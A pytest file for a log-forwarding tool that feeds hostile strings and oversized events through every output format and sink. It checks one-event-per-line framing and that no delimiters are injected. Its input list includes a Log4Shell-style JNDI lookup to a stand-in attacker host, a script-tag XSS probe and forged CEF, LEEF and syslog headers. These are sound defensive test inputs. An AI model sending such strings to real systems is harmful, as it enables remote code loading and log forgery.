"""Hostile text in every field of an event, and oversized events, through
every format and every sink.

Every format must keep one event per line (no raw CR or LF), raw must
round-trip the event exactly, the JSON formats must parse, and CEF and LEEF
must parse back to the values they were given (no delimiter injection).
Every sink must keep its framing (one event per line, per octet-counted
frame, per datagram, per HEC envelope) and apply its documented rule to an
oversized event: HEC and http send it alone and set it aside when the
receiver refuses it (413), Sumo Logic sets aside an event over its 1 MB
request limit, syslog truncates it and says so.

Lone surrogates are left out: the API's JSON decoder (orjson) never
produces them.
"""

from __future__ import annotations

import io
import re
import socket
import threading
import time
import unicodedata
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from structlog.testing import capture_logs

from forwarder import __version__
from forwarder.formats import RENDERERS, EventContext, cef, leef
from forwarder.formats.normalized import normalize
from forwarder.formats.syslog_message import (
    FACILITIES,
    SD_ID,
    Framing,
    MessageFormat,
    Syntax,
    sd_params,
)
from forwarder.secrets import Secret
from forwarder.sinks.base import Batch, DeliveryReport, Sink
from forwarder.sinks.file import FileSink
from forwarder.sinks.http import Encoding, HttpSink
from forwarder.sinks.splunk_hec import SplunkHecSink
from forwarder.sinks.stdout import StdoutSink
from forwarder.sinks.sumo_logic import MAX_REQUEST_BYTES, SumoLogicSink
from forwarder.sinks.syslog import SyslogSink, Transport, default_max_bytes
from tests.doubles import HecDouble, HecToken, HttpReceiver, SumoDouble

CONTEXT = EventContext(workspace_gid="1111", received_at="2026-01-01T00:00:01.000Z")
JSON_FORMATS = ("raw", "normalized", "ocsf")
HEC_TOKEN = "hec-hostile-token-4d1c"
SUMO_CODE = "hostileSumoCollectorCode0123456789abcdef=="
HOSTNAME = "forwarder-test"
BOM = b"\xef\xbb\xbf"
WAIT_SECONDS = 10.0

# Each kind of text that has broken a log pipeline somewhere.
HOSTILE: tuple[str, ...] = (
    "",
    "\x00",
    "\r",
    "\n",
    "\r\n",
    "\t",
    "\x0b\x0c",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u202e",
    "\u200b",
    "\x1b[31mred\x1b[0m",
    "\U0001f600",
    "e\u0301",
    "|",
    "=",
    "\\",
    "]",
    "[",
    '"',
    "'",
    "^",
    "{",
    "}",
    ",",
    " ",
    "%n%s%x",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "CEF:0|Evil|X|1|id|name|10|src=10.0.0.1",
    "LEEF:2.0|Evil|X|1|id|^|src=10.0.0.1",
    "<13>1 2026-01-01T00:00:00Z evil app - - - injected",
    "\\=",
    "\\|",
    "\\\\",
    "\\n",
    "a=b c=d",
    'x="y"]',
    "#011",
    "\u00e9" * 3000,
    "x" * 20_000,
)


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


# -- events -----------------------------------------------------------------------


def hostile_event(text: str, number: int, *, odd_time: bool = False) -> dict[str, Any]:
    """An event with ``text`` in every string field, in the keys of details
    and in an unknown field; with ``odd_time`` in created_at and
    resource_type too."""
    return {
        "gid": f"{number}{text}",
        "created_at": text if odd_time else f"2026-01-01T00:00:{number % 60:02d}.000Z",
        "event_type": text,
        "event_category": text,
        "actor": {"actor_type": text, "gid": text, "name": text, "email": text},
        "resource": {
            "resource_type": text if odd_time else "user",
            "resource_subtype": text,
            "gid": text,
            "name": text,
            "email": text,
        },
        "context": {
            "context_type": text,
            "client_ip_address": text,
            "user_agent": text,
            "api_authentication_method": text,
            "oauth_app_name": text,
            "rule_name": text,
            "on_behalf_of_user_id": text,
        },
        "details": {text: text, "old_value": text, "new_value": [text, {"k": text}]},
        f"x_{text}": text,
    }


def hostile_events() -> list[dict[str, Any]]:
    """One event per kind of hostile text, each twice (a valid and a hostile
    created_at), and one with every kind at once."""
    events = [
        hostile_event(text, number, odd_time=odd)
        for number, text in enumerate(HOSTILE)
        for odd in (False, True)
    ]
    everything = "".join(text for text in HOSTILE if len(text) < 100)
    events.append(hostile_event(everything, len(events)))
    return events


def oversized_event(number: int, size: int) -> dict[str, Any]:
    """A plain event whose details make its raw rendering about ``size``
    bytes, of characters one to four bytes long (a cut can land inside one)."""
    event = hostile_event("ok", number)
    event["details"] = {"blob": "A\u00e9\u20ac\U0001f600" * (size // 10)}
    return event


def sized_raw_event(number: int, payload_size: int) -> dict[str, Any]:
    """An event whose raw payload is exactly ``payload_size`` bytes."""
    event = oversized_event(number, 0)
    overhead = len(RENDERERS["raw"](event, CONTEXT))
    event["details"]["blob"] = "A" * (payload_size - overhead)
    assert len(RENDERERS["raw"](event, CONTEXT)) == payload_size
    return event


def batch_of(events: list[dict[str, Any]], format_name: str) -> Batch:
    render = RENDERERS[format_name]
    return Batch(list(events), [render(event, CONTEXT) for event in events])


_texts = st.lists(
    st.one_of(
        st.sampled_from([t for t in HOSTILE if len(t) < 100]), st.text(max_size=6)
    ),
    max_size=4,
).map("".join)
_times = st.one_of(
    st.just("2026-01-01T00:00:00.000Z"),
    st.datetimes().map(lambda moment: moment.isoformat() + "Z"),
    _texts,
)
random_events = st.fixed_dictionaries(
    {
        "gid": _texts,
        "created_at": _times,
        "event_type": st.one_of(
            st.sampled_from(["user_login_failed", "task_deleted"]), _texts
        ),
        "event_category": _texts,
        "actor": st.fixed_dictionaries(
            {"actor_type": _texts, "gid": _texts, "name": _texts, "email": _texts}
        ),
        "resource": st.fixed_dictionaries(
            {
                "resource_type": st.one_of(st.just("user"), _texts),
                "gid": _texts,
                "name": _texts,
                "email": _texts,
            }
        ),
        "context": st.fixed_dictionaries(
            {
                "client_ip_address": st.one_of(st.just("192.0.2.1"), _texts),
                "user_agent": _texts,
                "oauth_app_name": _texts,
            }
        ),
        "details": st.dictionaries(
            _texts, st.one_of(_texts, st.lists(_texts, max_size=2)), max_size=3
        ),
    }
)
random_batches = st.lists(random_events, min_size=1, max_size=4)


# -- reading CEF, LEEF and syslog back, independently of the code under test ----------


def parse_cef(text: str) -> tuple[list[str], list[tuple[str, str]]]:
    """The seven header fields and the extension pairs, unescaped."""
    header: list[str] = []
    current: list[str] = []
    index = 0
    while len(header) < 7:
        char = text[index]
        if char == "\\":
            assert text[index + 1] in "\\|", f"lone backslash in header: {text[:200]!r}"
            current.append(text[index + 1])
            index += 2
        elif char == "|":
            header.append("".join(current))
            current = []
            index += 1
        else:
            current.append(char)
            index += 1
    return header, _cef_extension(text[index:])


def _cef_extension(extension: str) -> list[tuple[str, str]]:
    # Every '=' inside a value is escaped, so a bare one ends a key.
    keys = list(re.finditer(r"(?:^| )([A-Za-z0-9_]+)=", extension))
    pairs = []
    for number, match in enumerate(keys):
        end = keys[number + 1].start() if number + 1 < len(keys) else len(extension)
        pairs.append((match.group(1), _cef_unescape(extension[match.end() : end])))
    return pairs


def _cef_unescape(value: str) -> str:
    escapes = {"\\": "\\", "=": "=", "n": "\n", "r": "\r"}
    out: list[str] = []
    index = 0
    while index < len(value):
        if value[index] == "\\":
            following = value[index + 1]
            assert following in escapes, f"lone backslash in {value[:100]!r}"
            out.append(escapes[following])
            index += 2
        else:
            out.append(value[index])
            index += 1
    return "".join(out)


def parse_leef(text: str) -> tuple[list[str], list[tuple[str, str]]]:
    """The header fields (delimiter included) and the attribute pairs."""
    parts = text.split("|", 6)
    assert len(parts) == 7, text[:200]
    header, attributes = parts[:6], parts[6]
    pairs = [item.partition("=") for item in attributes.split(header[5])]
    return header, [(key, value) for key, _, value in pairs]


@dataclass(frozen=True, slots=True)
class Rfc5424:
    pri: int
    header: list[str]
    sd: dict[str, dict[str, str]]
    msg: bytes


def parse_rfc5424(message: bytes) -> Rfc5424:
    """An RFC 5424 message, read strictly: printable ASCII header tokens,
    SD elements with their escapes, MSG after one space."""
    match = re.match(
        rb"<(\d{1,3})>1 ([!-~]+) ([!-~]+) ([!-~]+) ([!-~]+) ([!-~]+) ", message
    )
    assert match is not None, message[:200]
    rest = message[match.end() :]
    sd: dict[str, dict[str, str]] = {}
    if rest.startswith(b"-"):
        rest = rest[1:]
    else:
        text, consumed = _sd_elements(rest.decode("utf-8"), sd)
        rest = rest[len(text[:consumed].encode()) :]
    assert rest == b"" or rest.startswith(b" "), rest[:50]
    header = [part.decode() for part in match.groups()[1:]]
    return Rfc5424(int(match.group(1)), header, sd, rest[1:])


def _sd_elements(text: str, sd: dict[str, dict[str, str]]) -> tuple[str, int]:
    index = 0
    while index < len(text) and text[index] == "[":
        end = re.compile(r"[ \]]").search(text, index).start()  # type: ignore[union-attr]
        params: dict[str, str] = {}
        sd[text[index + 1 : end]] = params
        index = end
        while text[index] == " ":
            equals = text.index("=", index)
            name = text[index + 1 : equals]
            assert text[equals + 1] == '"'
            value, index = _sd_value(text, equals + 2)
            params[name] = value
        assert text[index] == "]"
        index += 1
    return text, index


def _sd_value(text: str, index: int) -> tuple[str, int]:
    out: list[str] = []
    while text[index] != '"':
        if text[index] == "\\" and text[index + 1] in '"\\]':
            out.append(text[index + 1])
            index += 2
        else:
            assert text[index] not in '"]', "unescaped delimiter in PARAM-VALUE"
            out.append(text[index])
            index += 1
    return "".join(out), index + 1


def parse_rfc3164(message: bytes) -> bytes:
    """The MSG of a BSD syslog message, after checking its header."""
    match = re.match(
        rb"<\d{1,3}>[A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d [!-~]+ [A-Za-z0-9_./-]+: ",
        message,
    )
    assert match is not None, message[:200]
    return message[match.end() :]


def octet_frames(stream: bytes) -> tuple[list[bytes], bytes]:
    """Complete RFC 6587 octet-counted frames, and what is left over."""
    frames = []
    index = 0
    while True:
        space = stream.find(b" ", index)
        if space < 0:
            break
        length = int(stream[index:space])
        if space + 1 + length > len(stream):
            break
        frames.append(stream[space + 1 : space + 1 + length])
        index = space + 1 + length
    return frames, stream[index:]


# -- what each format must give ----------------------------------------------------


def check_payload(format_name: str, event: dict[str, Any], payload: bytes) -> None:
    """One event per line, and the format's own rules."""
    assert b"\n" not in payload, payload[:200]
    assert b"\r" not in payload, payload[:200]
    if format_name in JSON_FORMATS:
        document = orjson.loads(payload)
        if format_name == "raw":
            assert document["event"] == event
        elif format_name == "normalized":
            assert document == orjson.loads(orjson.dumps(normalize(event, CONTEXT)))
        else:
            assert document["metadata"].get("uid") == event.get("gid")
        return
    text = payload.decode("utf-8")
    if format_name == "cef":
        check_cef(event, text)
    else:
        check_leef(event, text)


def _flat(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ")


def check_cef(event: dict[str, Any], text: str) -> None:
    header, pairs = parse_cef(text)
    fields = normalize(event, CONTEXT)
    action = fields["action"] or "unknown"
    assert header[:4] == ["CEF:0", "Asana", "Audit Log", __version__]
    assert header[4:6] == [_flat(action), _flat(action.replace("_", " "))]
    assert pairs == cef.extension_of(fields)


def check_leef(event: dict[str, Any], text: str) -> None:
    header, pairs = parse_leef(text)
    fields = normalize(event, CONTEXT)
    action = fields["action"] or "unknown"
    assert header == [
        "LEEF:2.0",
        "Asana",
        "Audit Log",
        __version__,
        _flat(action.replace("|", "\u00a6")),
        "^",
    ]
    expected = [
        (key, _flat(value.replace("^", "\u02c6")))
        for key, value in leef.attributes_of(event, fields)
    ]
    assert pairs == expected


def check_sd(event: dict[str, Any], sd: dict[str, str]) -> None:
    """Each SD-PARAM reads back as the event's value, control characters
    replaced and capped at 256 bytes."""
    for name, value in sd_params(event):
        clean = "".join(
            "\ufffd" if unicodedata.category(c) == "Cc" else c for c in value
        )
        got = sd[name]
        if len(clean.encode()) <= 256:
            assert got == clean
        else:
            assert clean.startswith(got)
            assert 252 < len(got.encode()) <= 256


def check_syslog(
    message: bytes,
    event: dict[str, Any],
    payload: bytes,
    syntax: Syntax,
    max_bytes: int,
) -> bool:
    """Check one received message; True when it was truncated (and marked)."""
    assert len(message) <= max_bytes
    message.decode("utf-8")  # never cut inside a character
    if syntax == "rfc3164":
        body = parse_rfc3164(message)
        if body == payload:
            return False
        marker = f" [truncated, original_size={len(payload)}]".encode()
        assert body.endswith(marker)
        assert payload.startswith(body[: -len(marker)])
        return True
    parsed = parse_rfc5424(message)
    params = parsed.sd[SD_ID]
    assert parsed.msg.startswith(BOM)
    if params.get("truncated") != "true":
        check_sd(event, params)
        assert parsed.msg[len(BOM) :] == payload
        return False
    assert params["original_size"] == str(len(payload))
    assert payload.startswith(parsed.msg[len(BOM) :])
    return True


# -- formats ------------------------------------------------------------------------

FORMATS = sorted(RENDERERS)


@pytest.mark.parametrize("format_name", FORMATS)
def test_every_hostile_string_in_every_field_renders_safely(format_name: str) -> None:
    """Each kind of hostile text in every field renders in every format: one
    event per line, raw exact, JSON parseable, CEF and LEEF parse back to
    their values without injected fields."""
    for event in hostile_events():
        check_payload(format_name, event, RENDERERS[format_name](event, CONTEXT))


@pytest.mark.parametrize("format_name", FORMATS)
@settings(max_examples=150, deadline=None)
@given(event=random_events)
def test_random_hostile_events_render_safely(
    format_name: str, event: dict[str, Any]
) -> None:
    """Any mix of hostile text in any field renders by each format's rules."""
    check_payload(format_name, event, RENDERERS[format_name](event, CONTEXT))


@pytest.mark.parametrize("format_name", FORMATS)
def test_an_oversized_event_renders_whole(format_name: str) -> None:
    """Several megabytes of details render whole in every format: nothing
    is cut at this stage (cutting is a sink's decision)."""
    event = oversized_event(1, 5_000_000)
    payload = RENDERERS[format_name](event, CONTEXT)

    check_payload(format_name, event, payload)
    assert len(payload) > 5_000_000


@pytest.mark.parametrize(
    "format_name",
    FORMATS,
)
@pytest.mark.parametrize(
    "created_at", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"]
)
def test_a_created_at_beyond_the_calendar_renders(
    format_name: str, created_at: str
) -> None:
    """A created_at that parses but overflows when converted to UTC renders
    like any unusable time: without the time, not with an exception."""
    event = hostile_event("ok", 1)
    event["created_at"] = created_at

    check_payload(format_name, event, RENDERERS[format_name](event, CONTEXT))


@pytest.mark.parametrize("syntax", ["rfc5424", "rfc3164"])
@pytest.mark.parametrize("payload_format", ["raw", "cef", "leef"])
def test_syslog_messages_keep_their_structure(
    syntax: Syntax, payload_format: str
) -> None:
    """Hostile text never breaks the syslog header or SD element: each
    message parses, SD values read back, MSG is the payload or is marked
    truncated and within the limit."""
    message_format = MessageFormat(
        syntax=syntax,
        facility=16,
        hostname=HOSTNAME,
        app_name="asana-audit",
        max_bytes=8192,
    )
    for event in hostile_events():
        payload = RENDERERS[payload_format](event, CONTEXT)
        message = message_format.build(event, payload)
        truncated = check_syslog(message.data, event, payload, syntax, 8192)
        assert truncated == message.truncated


# -- a syslog listener -----------------------------------------------------------------


class SyslogListener:
    """Plain TCP and UDP listeners on 127.0.0.1 that keep the bytes of each
    TCP connection and each datagram, for tests to read back."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 * 1024 * 1024)
        for listener in (self.tcp, self.udp):
            listener.settimeout(0.05)
        self.lock = threading.Lock()
        self.connections: list[bytearray] = []
        self.datagrams: list[bytes] = []
        self._stopping = threading.Event()
        self._threads = [
            threading.Thread(target=self._accept, daemon=True),
            threading.Thread(target=self._receive_datagrams, daemon=True),
        ]

    def port(self, transport: Transport) -> int:
        listener = self.udp if transport == "udp" else self.tcp
        port: int = listener.getsockname()[1]
        return port

    def start(self) -> SyslogListener:
        for thread in self._threads:
            thread.start()
        return self

    def stop(self) -> None:
        self._stopping.set()
        # The accepting thread first: it is the one that starts readers.
        for thread in self._threads[:2]:
            thread.join(5)
        for thread in self._threads[2:]:
            thread.join(5)
        self.tcp.close()
        self.udp.close()

    def _accept(self) -> None:
        while not self._stopping.is_set():
            try:
                connection, _ = self.tcp.accept()
            except TimeoutError:
                continue
            buffer = bytearray()
            with self.lock:
                self.connections.append(buffer)
            reader = threading.Thread(
                target=self._read, args=(connection, buffer), daemon=True
            )
            self._threads.append(reader)
            reader.start()

    def _read(self, connection: socket.socket, buffer: bytearray) -> None:
        with connection:
            connection.settimeout(0.05)
            while not self._stopping.is_set():
                try:
                    data = connection.recv(1 << 20)
                except TimeoutError:
                    continue
                if not data:
                    return
                with self.lock:
                    buffer.extend(data)

    def _receive_datagrams(self) -> None:
        while not self._stopping.is_set():
            try:
                data = self.udp.recv(65535)
            except TimeoutError:
                continue
            with self.lock:
                self.datagrams.append(data)

    def mark(self) -> tuple[int, int]:
        with self.lock:
            return len(self.connections), len(self.datagrams)

    def messages(
        self, since: tuple[int, int], transport: Transport, framing: Framing | None
    ) -> list[bytes]:
        """The complete messages received since ``since``."""
        with self.lock:
            if transport == "udp":
                return list(self.datagrams[since[1] :])
            streams = [bytes(buffer) for buffer in self.connections[since[0] :]]
        found: list[bytes] = []
        for stream in streams:
            if framing == "lf":
                found += stream.split(b"\n")[:-1]
            else:
                found += octet_frames(stream)[0]
        return found

    def wait(
        self,
        since: tuple[int, int],
        transport: Transport,
        framing: Framing | None,
        count: int,
    ) -> list[bytes]:
        deadline = time.monotonic() + WAIT_SECONDS
        while True:
            found = self.messages(since, transport, framing)
            if len(found) >= count or time.monotonic() > deadline:
                return found
            time.sleep(0.005)


@pytest.fixture(scope="module")
def listener() -> Iterator[SyslogListener]:
    server = SyslogListener().start()
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def hec() -> Iterator[HecDouble]:
    with HecDouble([HecToken(HEC_TOKEN)], max_content_length=2_000_000) as double:
        yield double
    assert not double.errors


@pytest.fixture(scope="module")
def sumo() -> Iterator[SumoDouble]:
    with SumoDouble([SUMO_CODE]) as double:
        yield double
    assert not double.errors


@pytest.fixture(scope="module")
def receiver() -> Iterator[HttpReceiver]:
    with HttpReceiver(max_body_bytes=2_000_000) as double:
        yield double
    assert not double.errors


# -- sinks -----------------------------------------------------------------------------


@asynccontextmanager
async def opened(sink: Sink) -> AsyncIterator[Sink]:
    try:
        await sink.open()
        yield sink
    finally:
        await sink.aclose()


async def deliver(sink: Sink, batch: Batch) -> DeliveryReport:
    async with opened(sink):
        with anyio.fail_after(WAIT_SECONDS):
            return await sink.deliver(batch)


@dataclass(frozen=True, slots=True)
class SyslogSetup:
    """One way of sending syslog: transport, syntax, stream framing (None
    for datagrams) and the payload's format."""

    transport: Transport
    syntax: Syntax
    framing: Framing | None
    payload: str

    @property
    def id(self) -> str:
        framing = self.framing or "datagram"
        return f"{self.transport}-{self.syntax}-{framing}-{self.payload}"

    @property
    def message_format(self) -> MessageFormat:
        """What the sink puts around each payload, for checks to compare."""
        return MessageFormat(
            syntax=self.syntax,
            facility=FACILITIES["local0"],
            hostname=HOSTNAME,
            app_name="asana-audit",
            max_bytes=default_max_bytes(self.transport, self.syntax),
        )

    def sink(self, listener: SyslogListener) -> SyslogSink:
        return SyslogSink(
            "syslog",
            transport=self.transport,
            host="127.0.0.1",
            port=listener.port(self.transport),
            syntax=self.syntax,
            framing=self.framing or "octet-counting",
            hostname=HOSTNAME,
            max_message_bytes=self.message_format.max_bytes,
            connect_timeout=5.0,
            write_timeout=5.0,
        )


SYSLOG_SETUPS = [
    SyslogSetup("tcp", "rfc5424", "octet-counting", "raw"),
    SyslogSetup("tcp", "rfc5424", "octet-counting", "cef"),
    SyslogSetup("tcp", "rfc5424", "lf", "leef"),
    SyslogSetup("tcp", "rfc3164", "lf", "cef"),
    SyslogSetup("udp", "rfc5424", None, "leef"),
    SyslogSetup("udp", "rfc3164", None, "raw"),
]


async def through_file(tmp: Path, batch: Batch) -> list[bytes]:
    path = tmp / "events.jsonl"
    path.unlink(missing_ok=True)
    await deliver(FileSink("file", path, fsync=False), batch)
    return path.read_bytes().split(b"\n")


async def through_stdout(batch: Batch) -> list[bytes]:
    stream = io.BytesIO()
    await deliver(StdoutSink("stdout", stream), batch)
    return stream.getvalue().split(b"\n")


def assert_lines(lines: list[bytes], batch: Batch) -> None:
    """One payload per line, exactly, and a final newline."""
    assert lines == [*batch.payloads, b""]


async def through_hec(hec: HecDouble, batch: Batch) -> list[Any]:
    before = len(hec.indexed())
    sink = SplunkHecSink("hec", url=hec.url, token=Secret(HEC_TOKEN), host=HOSTNAME)
    report = await deliver(sink, batch)
    assert report.rejected == []
    return hec.indexed()[before:]


async def through_sumo(sumo: SumoDouble, batch: Batch) -> list[bytes]:
    before = len(sumo.messages())
    report = await deliver(SumoLogicSink("sumo", url=Secret(sumo.source_url)), batch)
    assert report.rejected == []
    return sumo.messages()[before:]


async def through_http(
    receiver: HttpReceiver, batch: Batch, encoding: Encoding
) -> list[Any]:
    before = len(receiver.documents)
    sink = HttpSink("http", url=f"{receiver.url}/ingest", encoding=encoding)
    report = await deliver(sink, batch)
    assert report.rejected == []
    return receiver.documents[before:]


async def through_syslog(
    listener: SyslogListener, setup: SyslogSetup, events: list[dict[str, Any]]
) -> None:
    batch = batch_of(events, setup.payload)
    since = listener.mark()
    sink = setup.sink(listener)
    await deliver(sink, batch)
    messages = await anyio.to_thread.run_sync(
        listener.wait, since, setup.transport, setup.framing, len(events)
    )
    assert len(messages) == len(events)
    if setup.transport == "udp":
        # Datagrams may arrive in any order; each names its event by size.
        messages = _match_datagrams(messages, batch, setup)
    truncated = 0
    for message, event, payload in zip(messages, events, batch.payloads, strict=True):
        truncated += check_syslog(
            message, event, payload, setup.syntax, setup.message_format.max_bytes
        )
    assert sink.truncated_total == truncated


def _match_datagrams(
    messages: list[bytes], batch: Batch, setup: SyslogSetup
) -> list[bytes]:
    ordered: list[bytes] = []
    remaining = list(messages)
    for event, payload in zip(batch.events, batch.payloads, strict=True):
        expected = setup.message_format.build(event, payload).data
        # The timestamp of an event without a usable time is "now".
        match = next(
            (m for m in remaining if m == expected or _same_but_time(m, expected)),
            None,
        )
        assert match is not None, expected[:120]
        remaining.remove(match)
        ordered.append(match)
    return ordered


def _same_but_time(received: bytes, expected: bytes) -> bool:
    pattern = re.compile(rb"^(<\d+>1 )\S+|^(<\d+>)[A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d")
    return pattern.sub(b"", received) == pattern.sub(b"", expected)


# Fewer events than the full list where a receiver parses each request in
# Python: enough kinds of text, a fraction of the time.
def _sample(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return events[::3] + events[-1:]


@pytest.mark.anyio
@pytest.mark.parametrize("format_name", JSON_FORMATS)
async def test_file_and_stdout_keep_one_event_per_line(
    tmp_path: Path, format_name: str
) -> None:
    """The file and stdout sinks write each hostile event as exactly one
    line: its payload, byte for byte."""
    batch = batch_of(hostile_events(), format_name)

    assert_lines(await through_file(tmp_path, batch), batch)
    assert_lines(await through_stdout(batch), batch)


@pytest.mark.anyio
@pytest.mark.parametrize("format_name", JSON_FORMATS)
async def test_hec_indexes_one_envelope_per_hostile_event(
    hec: HecDouble, format_name: str
) -> None:
    """Each hostile event reaches HEC as one envelope whose event is the
    rendered document, unchanged."""
    batch = batch_of(_sample(hostile_events()), format_name)

    indexed = await through_hec(hec, batch)

    assert indexed == [orjson.loads(payload) for payload in batch.payloads]


@pytest.mark.anyio
@pytest.mark.parametrize("format_name", JSON_FORMATS)
async def test_sumo_receives_one_message_per_hostile_event(
    sumo: SumoDouble, format_name: str
) -> None:
    """Each hostile event is one Sumo Logic message (one line), unchanged."""
    batch = batch_of(_sample(hostile_events()), format_name)

    assert await through_sumo(sumo, batch) == batch.payloads


@pytest.mark.anyio
@pytest.mark.parametrize("encoding", ["ndjson", "json_array"])
@pytest.mark.parametrize("format_name", JSON_FORMATS)
async def test_http_receives_one_document_per_hostile_event(
    receiver: HttpReceiver, format_name: str, encoding: Encoding
) -> None:
    """Each hostile event is one JSON document at the receiver, unchanged,
    in either encoding."""
    batch = batch_of(_sample(hostile_events()), format_name)

    documents = await through_http(receiver, batch, encoding)

    assert documents == [orjson.loads(payload) for payload in batch.payloads]


@pytest.mark.anyio
@pytest.mark.parametrize("setup", SYSLOG_SETUPS, ids=lambda s: s.id)
async def test_syslog_keeps_one_message_per_hostile_event(
    listener: SyslogListener, setup: SyslogSetup
) -> None:
    """Over TCP (octet counting and LF) and UDP, in both syntaxes, each
    hostile event is one message that parses, with its payload whole or
    marked truncated within the limit."""
    await through_syslog(listener, setup, hostile_events())


# -- oversized events through sinks ----------------------------------------------------


@pytest.mark.anyio
async def test_file_and_stdout_write_an_oversized_event_whole(tmp_path: Path) -> None:
    """Megabytes of details are written as one whole line."""
    batch = batch_of([oversized_event(1, 5_000_000), hostile_event("ok", 2)], "raw")

    assert_lines(await through_file(tmp_path, batch), batch)
    assert_lines(await through_stdout(batch), batch)


@pytest.mark.anyio
async def test_hec_sends_an_oversized_event_alone_and_sets_aside_a_refused_one(
    hec: HecDouble,
) -> None:
    """An event over the sink's request size goes in a request of its own
    and is indexed; one the collector refuses as too large (413) is set
    aside; the events around them are indexed."""
    events = [
        hostile_event("a", 1),
        oversized_event(2, 3_000_000),
        hostile_event("b", 3),
        oversized_event(4, 1_500_000),
        hostile_event("c", 5),
    ]
    batch = batch_of(events, "raw")
    before = len(hec.indexed())
    sink = SplunkHecSink("hec", url=hec.url, token=Secret(HEC_TOKEN), host=HOSTNAME)
    with capture_logs():
        report = await deliver(sink, batch)

    assert [index for index, _ in report.rejected] == [1]
    assert "413" in report.rejected[0][1]
    indexed = hec.indexed()[before:]
    assert [d["event"]["gid"] for d in indexed] == [
        events[i]["gid"] for i in (0, 2, 3, 4)
    ]


@pytest.mark.anyio
async def test_http_sends_an_oversized_event_alone_and_sets_aside_a_refused_one(
    receiver: HttpReceiver,
) -> None:
    """Like HEC: alone when over max_request_bytes, set aside on 413."""
    events = [
        hostile_event("a", 1),
        oversized_event(2, 3_000_000),
        oversized_event(3, 1_500_000),
        hostile_event("b", 4),
    ]
    batch = batch_of(events, "raw")
    before = len(receiver.documents)
    sink = HttpSink("http", url=f"{receiver.url}/ingest")
    with capture_logs():
        report = await deliver(sink, batch)

    assert [index for index, _ in report.rejected] == [1]
    documents = receiver.documents[before:]
    assert [d["event"]["gid"] for d in documents] == [
        events[i]["gid"] for i in (0, 2, 3)
    ]


@pytest.mark.anyio
async def test_sumo_sets_aside_an_event_over_one_megabyte(sumo: SumoDouble) -> None:
    """Sumo Logic takes at most 1 MB per request: an event that fits with
    its newline is delivered, one byte more is set aside with the reason,
    and no request ever exceeds the limit."""
    events = [
        hostile_event("a", 1),
        sized_raw_event(2, MAX_REQUEST_BYTES - 1),
        sized_raw_event(3, MAX_REQUEST_BYTES),
        oversized_event(4, 3_000_000),
        hostile_event("b", 5),
    ]
    batch = batch_of(events, "raw")
    before = len(sumo.accepted)
    with capture_logs():
        report = await deliver(
            SumoLogicSink("sumo", url=Secret(sumo.source_url)), batch
        )

    assert [index for index, _ in report.rejected] == [2, 3]
    assert all("limit" in reason for _, reason in report.rejected)
    accepted = sumo.accepted[before:]
    messages = [m for request in accepted for m in request.messages]
    assert messages == [batch.payloads[i] for i in (0, 1, 4)]
    assert all(request.size <= MAX_REQUEST_BYTES for request in accepted)
    assert sumo.refused == []


@pytest.mark.anyio
@pytest.mark.parametrize(
    "setup",
    [s for s in SYSLOG_SETUPS if s.payload == "raw" or s.framing == "lf"],
    ids=lambda s: s.id,
)
async def test_syslog_truncates_an_oversized_event_and_marks_it(
    listener: SyslogListener, setup: SyslogSetup
) -> None:
    """An event larger than the message limit is cut to the limit, at a
    character boundary, marked with its original size, counted; its
    neighbours arrive whole and the framing holds."""
    events = [
        hostile_event("a", 1),
        oversized_event(2, 3_000_000),
        hostile_event("b", 3),
    ]
    with capture_logs() as logs:
        await through_syslog(listener, setup, events)

    warning = next(line for line in logs if line["event"] == "syslog_events_truncated")
    assert warning["count"] >= 1


# -- property: random hostile batches through every sink -------------------------------

SINK_SETTINGS = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def _run(function: Callable[..., Any], *args: Any) -> Any:
    with capture_logs():
        return anyio.run(function, *args)


@SINK_SETTINGS
@given(events=random_batches)
def test_random_hostile_batches_through_file_and_stdout(
    tmp_path: Path, events: list[dict[str, Any]]
) -> None:
    """Any batch of hostile events is written one payload per line."""
    batch = batch_of(events, "raw")
    assert_lines(_run(through_file, tmp_path, batch), batch)
    assert_lines(_run(through_stdout, batch), batch)


@SINK_SETTINGS
@given(events=random_batches, format_name=st.sampled_from(JSON_FORMATS))
def test_random_hostile_batches_through_hec(
    hec: HecDouble, events: list[dict[str, Any]], format_name: str
) -> None:
    """Any batch of hostile events is indexed one envelope per event."""
    batch = batch_of(events, format_name)
    indexed = _run(through_hec, hec, batch)
    assert indexed == [orjson.loads(payload) for payload in batch.payloads]


@SINK_SETTINGS
@given(events=random_batches)
def test_random_hostile_batches_through_sumo(
    sumo: SumoDouble, events: list[dict[str, Any]]
) -> None:
    """Any batch of hostile events is one Sumo Logic message per event."""
    batch = batch_of(events, "raw")
    assert _run(through_sumo, sumo, batch) == batch.payloads


@SINK_SETTINGS
@given(events=random_batches, encoding=st.sampled_from(["ndjson", "json_array"]))
def test_random_hostile_batches_through_http(
    receiver: HttpReceiver, events: list[dict[str, Any]], encoding: Encoding
) -> None:
    """Any batch of hostile events is one JSON document per event."""
    batch = batch_of(events, "raw")
    documents = _run(through_http, receiver, batch, encoding)
    assert [d["event"] for d in documents] == events


@SINK_SETTINGS
@given(events=random_batches, setup=st.sampled_from(SYSLOG_SETUPS))
def test_random_hostile_batches_through_syslog(
    listener: SyslogListener, events: list[dict[str, Any]], setup: SyslogSetup
) -> None:
    """Any batch of hostile events is one well-formed syslog message per
    event, over every transport, syntax and payload."""
    _run(through_syslog, listener, setup, events)


@pytest.mark.anyio
